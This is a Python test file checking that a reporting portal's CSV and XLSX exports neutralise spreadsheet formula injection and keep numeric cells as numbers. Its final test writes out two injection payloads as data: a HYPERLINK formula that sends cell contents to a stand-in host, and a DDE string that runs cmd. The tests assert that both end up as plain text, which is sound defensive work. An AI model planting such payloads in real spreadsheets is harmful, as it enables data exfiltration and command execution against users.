"""Issue 13, finding 3: report exports (CSV and XLSX) neutralise formulas, never numbers.

Property-based over arbitrary texts: a name becomes a cell no spreadsheet evaluates, and
shares and counts (even negative ones) arrive as the numbers they are.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from portal.spreadsheet import FORMULA_STARTS
from reports.exports import table_csv, table_xlsx
from reports.tables import Column, Table

COLUMNS = [Column("name", "Name"), Column("share", "Anteil", "pct"), Column("n", "Zahl", "int")]
shares = st.decimals(min_value=-100, max_value=100, places=1, allow_nan=False)
counts = st.integers(min_value=-(10**9), max_value=10**9)
quick = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def _table(name: str, share: Decimal, count: int) -> Table:
    return Table(
        slug="probe",
        caption="Probe",
        columns=COLUMNS,
        rows=[{"name": name, "share": share, "n": count}],
    )


@quick
@given(st.text(), shares, counts)
def test_csv_cells_are_never_formulas_and_numbers_stay(
    name: str, share: Decimal, count: int
) -> None:
    response = table_csv(_table(name, share, count), "probe")
    text = response.content.decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert header == ["Name", "Anteil", "Zahl"]
    assert row[0] == ("'" + name if name.startswith(FORMULA_STARTS) else name)
    assert row[1] == f"{float(share):.1f}".replace(".", ",")  # "-5,0": a number, untouched
    assert row[2] == str(count)


@quick
@given(st.text(), shares, counts)
def test_xlsx_cells_are_never_formulas_and_numbers_stay_numbers(
    name: str, share: Decimal, count: int
) -> None:
    response = table_xlsx(_table(name, share, count), "probe")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert isinstance(sheet, Worksheet)
    name_cell, share_cell, count_cell = sheet[2]
    assert name_cell.data_type != "f"
    assert not str(name_cell.value or "").startswith(FORMULA_STARTS)
    assert share_cell.data_type == "n" and share_cell.value == float(share / 100)
    assert share_cell.number_format == "0.0%"
    assert count_cell.data_type == "n" and count_cell.value == count


def test_the_issue_examples_arrive_as_text() -> None:
    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    dde = "-2+3+cmd|' /C calc'!A0"
    for name in (hyperlink, dde):
        sheet = load_workbook(io.BytesIO(table_xlsx(_table(name, Decimal(1), 1), "p").content))
        active = sheet.active
        assert isinstance(active, Worksheet)
        assert active["A2"].value == "'" + name
        assert active["A2"].data_type == "s"
